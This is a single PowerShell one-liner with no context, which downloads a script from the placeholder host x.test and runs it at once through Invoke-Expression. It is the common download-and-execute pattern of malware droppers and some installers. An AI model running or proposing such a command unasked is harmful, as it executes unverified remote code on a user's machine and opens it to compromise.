iex (irm https://x.test/i.ps1)
